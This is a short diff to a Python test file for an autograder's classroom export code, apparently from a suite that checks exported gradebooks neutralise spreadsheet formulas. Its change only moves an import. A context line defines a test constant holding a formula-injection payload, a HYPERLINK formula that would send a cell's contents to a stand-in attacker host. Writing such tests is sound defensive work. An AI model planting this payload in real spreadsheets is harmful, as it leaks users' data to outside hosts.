@@ -11,9 +11,9 @@ from gradebook_helpers import DUE, add_assignment, add_submission, write
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
+from autograder.class_folder.settings import ClassError
 from autograder.classroom.export import export, export_like
 from autograder.classroom.grades import class_grades
-from autograder.classroom.settings import ClassError
 from autograder.classroom.tables import defused, read_table, write_table
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"click")'
